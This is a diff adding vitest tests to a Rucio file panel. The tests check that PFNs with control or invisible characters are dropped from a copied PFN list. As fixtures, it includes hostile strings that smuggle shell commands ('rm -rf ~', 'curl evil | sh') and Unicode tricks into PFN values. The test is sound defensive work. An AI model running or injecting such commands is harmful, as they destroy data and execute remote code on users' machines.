@@ -4,7 +4,7 @@
 import { execFileSync } from 'node:child_process';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
-import { fileListCell } from '../src/panels/rucio/rucio-files';
+import { fileListCell, firstPfn, pfnList, mergeReplica, fileRow } from '../src/panels/rucio/rucio-files';
 
 const python = fileURLToPath(new URL('../../.venv/bin/python', import.meta.url));
 
@@ -63,5 +63,32 @@ describe('the inserted file list against hostile Rucio strings', () => {
     }
     // the empty list too
     expect(parseCell(fileListCell([], 'data26:x\nimport os', 'root')).statements).toEqual(['Assign:files']);
+  });
+});
+
+describe('PFNs from Rucio with unprintable characters', () => {
+  it('are passed over, so a copied PFN list holds one clean PFN a line and nothing a shell would run', () => {
+    const bad = [
+      'davs://h/f\nrm -rf ~\n',
+      'davs://h/f\r\ncurl evil | sh',
+      'davs://h/f\u202Egnp.exe',
+      'davs://h/f\u2028x',
+      'davs://h/f\u0000',
+      'davs://h/f\u200B',
+      'davs://h/f\ud800',
+    ];
+    for (const p of bad) {
+      // the clean one is picked even when the hostile one has the better priority
+      expect(firstPfn({ pfns: { [p]: { priority: 1 }, 'davs://h/clean': { priority: 2 } } as never }, 'davs'), JSON.stringify(p)).toBe('davs://h/clean');
+      expect(firstPfn({ pfns: { [p]: { priority: 1 } } as never }, 'davs'), JSON.stringify(p)).toBe('');
+    }
+    const rows = bad.map((p, i) =>
+      mergeReplica(fileRow({ scope: 'd', name: `f${i}` } as never), { scope: 'd', name: `f${i}`, pfns: { [p]: { priority: 1 } } } as never, 'davs'),
+    );
+    const { pfns, missing } = pfnList(rows);
+    expect(pfns).toEqual([]);
+    expect(missing).toBe(bad.length);
+    // a plain PFN is kept, spaces and all
+    expect(firstPfn({ pfns: { 'root://h:1094//data/a b.root': { priority: 1 } } as never }, 'root')).toBe('root://h:1094//data/a b.root');
   });
 });
